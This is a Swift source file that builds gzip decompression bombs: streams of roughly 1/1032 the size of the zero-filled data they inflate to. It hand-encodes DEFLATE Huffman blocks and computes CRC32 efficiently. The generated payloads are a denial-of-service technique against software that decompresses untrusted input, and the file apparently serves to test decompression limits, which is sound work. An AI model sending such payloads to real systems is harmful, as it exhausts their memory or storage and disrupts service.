/// Builds gzip streams of zero bytes by hand-encoding DEFLATE (RFC 1951) in a gzip wrapper
/// (RFC 1952); no zlib needed.
///
/// The stream is one literal zero, then a dynamic-Huffman block of length-258/distance-1
/// matches in which both the length code and the distance code are one bit long: each match
/// costs 2 bits for 258 output bytes, about 1/1032. A short fixed-Huffman final block encodes
/// the remainder. The CRC32 of n zero bytes is computed in O(log n) by polynomial arithmetic.
enum GzipBomb {
  /// Returns a gzip stream that inflates to `size` zero bytes.
  static func stream(decompressedSize size: Int) -> [UInt8] {
    let size = max(0, size)
    var out: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]  // magic, deflate, no flags, OS unknown
    var bits = BitWriter()
    if size == 0 {
      bits.write(1, count: 1)  // BFINAL
      bits.write(1, count: 2)  // BTYPE = fixed Huffman
      bits.writeFixedEndOfBlock()
    } else {
      let matches = (size - 1) / 258
      let remainder = (size - 1) % 258
      if matches > 0 {
        writeMatchBlock(into: &bits, matches: matches)
        bits.write(1, count: 1)  // BFINAL
        bits.write(1, count: 2)  // BTYPE = fixed
      } else {
        bits.write(1, count: 1)
        bits.write(1, count: 2)
        bits.writeFixedLiteral(0)
      }
      if remainder >= 3 {
        bits.writeFixedMatch(length: remainder)
      } else {
        for _ in 0..<remainder { bits.writeFixedLiteral(0) }
      }
      bits.writeFixedEndOfBlock()
    }
    out += bits.finish()
    let crc = CRC32.ofZeros(count: size)
    let isize = UInt32(truncatingIfNeeded: size)
    for shift in stride(from: 0, to: 32, by: 8) { out.append(UInt8(truncatingIfNeeded: crc >> shift)) }
    for shift in stride(from: 0, to: 32, by: 8) {
      out.append(UInt8(truncatingIfNeeded: isize >> shift))
    }
    return out
  }

  /// Writes a non-final dynamic block: literal 0, then `matches` copies of (258, distance 1).
  ///
  /// Literal/length code lengths: 285 → 1 bit (`0`), 0 → 2 bits (`10`), 256 → 2 bits (`11`).
  /// Distance code lengths: code 0 → 1 bit (`0`). So every match is the two bits `00`.
  private static func writeMatchBlock(into bits: inout BitWriter, matches: Int) {
    bits.write(0, count: 1)  // BFINAL = 0
    bits.write(2, count: 2)  // BTYPE = dynamic Huffman
    bits.write(286 - 257, count: 5)  // HLIT
    bits.write(1 - 1, count: 5)  // HDIST
    // Code-length code: symbol 18 → 1 bit, symbols 1 and 2 → 2 bits.
    let order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
    var codeLengthLengths = [Int](repeating: 0, count: 19)
    codeLengthLengths[18] = 1
    codeLengthLengths[1] = 2
    codeLengthLengths[2] = 2
    let used = order.lastIndex { codeLengthLengths[$0] != 0 }! + 1
    bits.write(UInt32(used - 4), count: 4)  // HCLEN
    for symbol in order[..<used] { bits.write(UInt32(codeLengthLengths[symbol]), count: 3) }
    let codeLengthCodes = canonicalCodes(lengths: codeLengthLengths)
    func emit(_ symbol: Int) {
      bits.writeHuffman(codeLengthCodes[symbol], count: codeLengthLengths[symbol])
    }
    func emitZeros(_ count: Int) {
      var left = count
      while left > 0 {
        let run = min(left, 138)
        precondition(run >= 11)
        emit(18)
        bits.write(UInt32(run - 11), count: 7)
        left -= run
      }
    }
    // Literal/length lengths: [0]=2, [1...255]=0, [256]=2, [257...284]=0, [285]=1; distance [0]=1.
    emit(2)
    emitZeros(138)
    emitZeros(117)
    emit(2)
    emitZeros(28)
    emit(1)
    emit(1)
    // Data: literal 0 (`10`), the matches (all-zero bits), end of block (`11`).
    bits.writeHuffman(0b10, count: 2)
    bits.writeZeroBits(2 * matches)
    bits.writeHuffman(0b11, count: 2)
  }

  /// Returns the canonical Huffman codes for the given code lengths (RFC 1951 §3.2.2).
  static func canonicalCodes(lengths: [Int]) -> [UInt32] {
    let maxLength = lengths.max() ?? 0
    var lengthCount = [Int](repeating: 0, count: maxLength + 1)
    for length in lengths where length > 0 { lengthCount[length] += 1 }
    var nextCode = [UInt32](repeating: 0, count: maxLength + 2)
    var code: UInt32 = 0
    if maxLength > 0 {
      for bitCount in 1...maxLength {
        code = (code + UInt32(lengthCount[bitCount - 1])) << 1
        nextCode[bitCount] = code
      }
    }
    var codes = [UInt32](repeating: 0, count: lengths.count)
    for (symbol, length) in lengths.enumerated() where length > 0 {
      codes[symbol] = nextCode[length]
      nextCode[length] += 1
    }
    return codes
  }
}

/// Packs DEFLATE bits: plain values least-significant bit first, Huffman codes most-significant
/// bit first.
struct BitWriter {
  private(set) var bytes: [UInt8] = []
  private var pending: UInt32 = 0
  private var pendingCount = 0

  /// Writes the low `count` bits of `value`, least-significant first.
  mutating func write(_ value: UInt32, count: Int) {
    for index in 0..<count {
      pending |= ((value >> UInt32(index)) & 1) << UInt32(pendingCount)
      pendingCount += 1
      if pendingCount == 8 {
        bytes.append(UInt8(pending))
        pending = 0
        pendingCount = 0
      }
    }
  }

  /// Writes a `count`-bit Huffman code, most-significant bit first.
  mutating func writeHuffman(_ code: UInt32, count: Int) {
    var reversed: UInt32 = 0
    for index in 0..<count { reversed |= ((code >> UInt32(index)) & 1) << UInt32(count - 1 - index) }
    write(reversed, count: count)
  }

  /// Writes `count` zero bits, appending whole zero bytes in bulk.
  mutating func writeZeroBits(_ count: Int) {
    var left = count
    while left > 0 && pendingCount != 0 {
      write(0, count: 1)
      left -= 1
    }
    bytes.append(contentsOf: repeatElement(0, count: left / 8))
    write(0, count: left % 8)
  }

  /// Writes a literal byte with the fixed Huffman code.
  mutating func writeFixedLiteral(_ byte: UInt8) {
    if byte < 144 {
      writeHuffman(0x30 + UInt32(byte), count: 8)
    } else {
      writeHuffman(0x190 + UInt32(byte) - 144, count: 9)
    }
  }

  /// Writes a (length, distance 1) match with the fixed Huffman codes; `length` is 3...258.
  mutating func writeFixedMatch(length: Int) {
    let bases = [
      3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115,
      131, 163, 195, 227, 258,
    ]
    let extra = [0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5, 0]
    let index = bases.lastIndex { $0 <= length }!
    let symbol = 257 + index
    if symbol < 280 {
      writeHuffman(UInt32(symbol - 256), count: 7)
    } else {
      writeHuffman(0xC0 + UInt32(symbol - 280), count: 8)
    }
    write(UInt32(length - bases[index]), count: extra[index])
    writeHuffman(0, count: 5)  // distance code 0 = distance 1
  }

  /// Writes the fixed-Huffman end-of-block code (symbol 256: seven zero bits).
  mutating func writeFixedEndOfBlock() {
    writeHuffman(0, count: 7)
  }

  /// Pads the last byte with zero bits and returns all bytes.
  mutating func finish() -> [UInt8] {
    if pendingCount > 0 {
      bytes.append(UInt8(pending))
      pending = 0
      pendingCount = 0
    }
    return bytes
  }
}

/// CRC-32 as used by gzip (reflected polynomial 0xEDB88320).
enum CRC32 {
  private static let polynomial: UInt32 = 0xEDB8_8320

  /// Returns the CRC-32 of `bytes`, bit by bit (for checks; slow on large inputs).
  static func checksum(_ bytes: some Sequence<UInt8>) -> UInt32 {
    var crc: UInt32 = 0xFFFF_FFFF
    for byte in bytes {
      crc ^= UInt32(byte)
      for _ in 0..<8 { crc = crc & 1 != 0 ? (crc >> 1) ^ polynomial : crc >> 1 }
    }
    return crc ^ 0xFFFF_FFFF
  }

  /// Returns the CRC-32 of `count` zero bytes in O(log count) steps.
  ///
  /// Feeding a zero byte multiplies the CRC register by x⁸ modulo the polynomial, so the
  /// register after `count` zeros is the initial 0xFFFFFFFF times x^(8·count) (as in zlib's
  /// `crc32_combine`).
  static func ofZeros(count: Int) -> UInt32 {
    var power: UInt32 = 1 << 31  // x⁰
    var square: UInt32 = 1 << 30  // x¹, squared each step: x^(2^k)
    var exponent = UInt64(count) * 8
    while exponent > 0 {
      if exponent & 1 != 0 { power = multiply(square, power) }
      square = multiply(square, square)
      exponent >>= 1
    }
    return multiply(power, 0xFFFF_FFFF) ^ 0xFFFF_FFFF
  }

  /// Multiplies two polynomials modulo the CRC polynomial (bit 31 is x⁰).
  private static func multiply(_ a: UInt32, _ b: UInt32) -> UInt32 {
    var product: UInt32 = 0
    var b = b
    var mask: UInt32 = 1 << 31
    while mask != 0 {
      if a & mask != 0 { product ^= b }
      mask >>= 1
      b = b & 1 != 0 ? (b >> 1) ^ polynomial : b >> 1
    }
    return product
  }
}
